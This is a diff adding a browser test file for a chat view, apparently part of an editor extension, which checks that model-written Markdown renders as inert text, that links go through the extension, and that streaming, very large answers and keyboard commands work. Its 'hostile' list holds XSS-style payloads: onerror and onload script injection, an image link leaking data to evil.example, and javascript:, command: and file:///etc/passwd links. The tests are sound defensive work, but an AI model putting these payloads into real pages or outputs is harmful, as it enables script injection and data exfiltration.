@@ -1,0 +1,99 @@
+// The Chat view by itself, in a real Chromium: what a model writes is data; it fetches nothing, runs nothing and looks like text.
+import assert from 'node:assert/strict';
+import { after, afterEach, before, beforeEach, test } from 'node:test';
+import { launch } from './chromium.mjs';
+import { openChat } from './results-page.mjs';
+
+let browser;
+let view;
+let page;
+
+before(async () => {
+  browser = await launch();
+});
+after(() => browser?.close());
+beforeEach(async () => {
+  view = await openChat(browser);
+  page = view.page;
+  await page.getByRole('combobox').waitFor();
+});
+afterEach(async () => {
+  assert.deepEqual(view.faults, []);
+  assert.deepEqual(view.messages.filter((message) => message.startsWith('thrown')), []);
+  await page.context().close();
+});
+
+const say = (message) => page.evaluate((message) => window.host.say(message), message);
+const posted = (type) => page.evaluate((type) => window.host.posted.filter((message) => message.type === type), type);
+const answer = (text) => say({ type: 'item', item: { id: 'a', type: 'agentMessage', text } });
+const log = () => page.getByRole('log');
+
+const hostile = [
+  '<img src=x onerror="document.title=1"><script>document.title=1</script>',
+  '![leak](https://evil.example/?q=TEXAS) ![data](data:image/png;base64,AAAA)',
+  '[run](command:workbench.action.quit) [js](javascript:document.title=1) [data](data:text/html,x) [file](file:///etc/passwd) [plain](http://evil.example)',
+  '<a href="https://evil.example" style="position:fixed">x</a> <form action="https://evil.example"><input></form>',
+  '| a | b |\n|:-:|--:|\n| <b>x</b> | 1 |',
+  '<https://evil.example/auto> &lt;b&gt; [ref]: https://evil.example/ref',
+  '```html\n<script>document.title=1</script>\n```',
+  '<svg onload="document.title=1"><style>*{display:none}</style></svg><iframe src="https://evil.example"></iframe>',
+];
+
+test('hostile Markdown makes no request, no element of its own and no link but https', async () => {
+  await answer(hostile.join('\n\n'));
+  await log().getByText('document.title=1').first().waitFor();
+  assert.equal(await page.title(), 'chat');
+  assert.equal(await log().locator('img, script:not([nonce]), form, input, iframe, style, svg, [style], [onerror], [onload]').count(), 0);
+  const links = await log().locator('a').evaluateAll((list) => list.map((link) => link.getAttribute('href')));
+  assert.deepEqual(links.filter((href) => !href.startsWith('https://')), []);
+  assert.equal(await log().locator('td.right').innerText(), '1');
+});
+
+test('a link goes through the extension, which asks', async () => {
+  await answer('[docs](https://learn.example/kql)');
+  await log().getByRole('link', { name: 'docs' }).click();
+  assert.deepEqual(await posted('link'), [{ type: 'link', href: 'https://learn.example/kql' }]);
+  assert.match(page.url(), /^http:\/\/127\.0\.0\.1/);
+});
+
+test('text that streams is drawn piece by piece; what stood already stays in place', async () => {
+  await say({ type: 'item', item: { id: 'a', type: 'agentMessage', text: '', open: true } });
+  await say({ type: 'delta', id: 'a', text: 'First block.\n\nSecond ' });
+  await log().getByText('First block.').evaluate((node) => (node.dataset.kept = 'yes'));
+  for (const piece of ['**bold', '** block.\n\n```kusto\nStormEvents', '\n| take 1\n```\n']) {
+    await say({ type: 'delta', id: 'a', text: piece });
+  }
+  await log().getByText('| take 1').waitFor();
+  assert.equal(await log().getByText('First block.').getAttribute('data-kept'), 'yes');
+  assert.equal(await log().locator('strong').innerText(), 'bold');
+  await log().getByRole('button', { name: 'Insert into the document' }).click();
+  assert.deepEqual(await posted('insert'), [{ type: 'insert', text: 'StormEvents\n| take 1' }]);
+  await page.getByRole('status').filter({ hasText: 'Second' }).waitFor({ state: 'attached' });
+});
+
+test('void items go; an answer of 2 MB and a thousand items are no matter', async () => {
+  await answer('x');
+  await say({ type: 'void', ids: ['a'] });
+  await log().getByText('Ask about your data').waitFor();
+  await answer(`${'word '.repeat(400_000)}end`);
+  await log().getByText(/end$/).waitFor();
+  const items = Array.from({ length: 1000 }, (_, i) => ({ id: `i${i}`, type: i % 2 === 0 ? 'userMessage' : 'agentMessage', text: `message ${i}` }));
+  const began = Date.now();
+  await page.evaluate((items) => window.host.say({ type: 'all', items, bar: window.host.bar }), items);
+  await log().getByText('message 999', { exact: true }).waitFor();
+  assert.ok(Date.now() - began < 3000);
+});
+
+test('by keyboard: a command is completed, what was asked comes back, a message of no known shape is nothing', async () => {
+  const box = page.getByRole('combobox');
+  await box.fill('/t');
+  await page.getByRole('option', { name: /tables/ }).waitFor();
+  assert.equal(await box.getAttribute('aria-expanded'), 'true');
+  await box.press('Enter');
+  await box.press('Enter');
+  assert.deepEqual(await posted('ask'), [{ type: 'ask', text: '/tables', document: true }]);
+  await box.press('ArrowUp');
+  assert.equal(await box.inputValue(), '/tables');
+  await say({ type: 'item', item: { id: 3 } });
+  await say({ type: 'constructor' });
+});
